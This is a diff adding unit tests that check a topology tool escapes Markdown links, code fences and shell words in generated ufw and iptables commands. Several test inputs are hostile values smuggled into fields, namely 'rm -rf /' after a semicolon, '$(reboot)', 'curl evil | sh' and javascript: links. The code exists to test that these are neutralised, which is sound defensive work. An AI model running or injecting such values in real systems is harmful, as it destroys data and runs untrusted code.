@@ -3,7 +3,8 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { test } from 'node:test';
 import { parseTopology } from '../../src/model/parse-topology.ts';
-import { mdCell, mdCode, mermaidText } from '../../src/views/escape.ts';
+import { mdCell, mdCode, mdFence, mdProse, mermaidText } from '../../src/views/escape.ts';
+import { iptablesCommands, shellComment, shellWord, ufwCommands } from '../../src/views/markdown/firewall-commands.ts';
 import { generateSystem } from '../../src/views/generate.ts';
 import { REPO_ROOT } from '../helpers/cli.ts';
 
@@ -56,4 +57,26 @@ test('hostile topology strings never reach the Markdown views as markup', () => 
   }
   const readme = generateSystem(parsed.topology!).find((f) => f.name === 'readme')!;
   assert.ok(readme.content.includes('Evil \\| name \\`tick\\` &lt;script&gt;'));
+});
+
+test('Markdown prose keeps links but not ones that run code', () => {
+  assert.equal(mdProse('see [docs](https://example.com)'), 'see [docs](https://example.com)');
+  assert.equal(mdProse('[x](javascript:alert(1)) [y]( VBScript:x) [z](data:text/html,x)'), '[x](#unsafe-link:alert(1)) [y]( #unsafe-link:x) [z](#unsafe-link:text/html,x)');
+  assert.equal(mdProse('[ref]: javascript:alert(1)'), '[ref]: #unsafe-link:alert(1)');
+});
+
+test('a fenced block cannot be closed by its content', () => {
+  assert.equal(mdFence('a', 'text'), '```text\na\n```');
+  assert.equal(mdFence('```\n<script>', 'text'), '````text\n```\n<script>\n````');
+});
+
+test('firewall commands quote topology text as shell words and keep comments on one line', () => {
+  assert.equal(shellWord('203.0.113.0/24'), '203.0.113.0/24');
+  assert.equal(shellWord("1.2.3.4; rm -rf / #'"), `'1.2.3.4; rm -rf / #'\\'''`);
+  assert.equal(shellComment('Allow\nrm -rf /\r\n'), 'Allow rm -rf / ');
+  const fw = { kind: 'ufw', defaultIncoming: 'deny', defaultOutgoing: 'allow', rules: [{ action: 'allow', direction: 'in', port: 22, protocol: 'tcp', from: '$(reboot)', description: 'SSH\ncurl evil | sh' }] } as unknown as Parameters<typeof ufwCommands>[0];
+  for (const line of [...ufwCommands(fw), ...iptablesCommands(fw)]) {
+    assert.ok(!line.includes('\n'));
+    if (!line.startsWith('#')) assert.ok(!/[^']\$\(reboot\)/.test(line), line);
+  }
 });
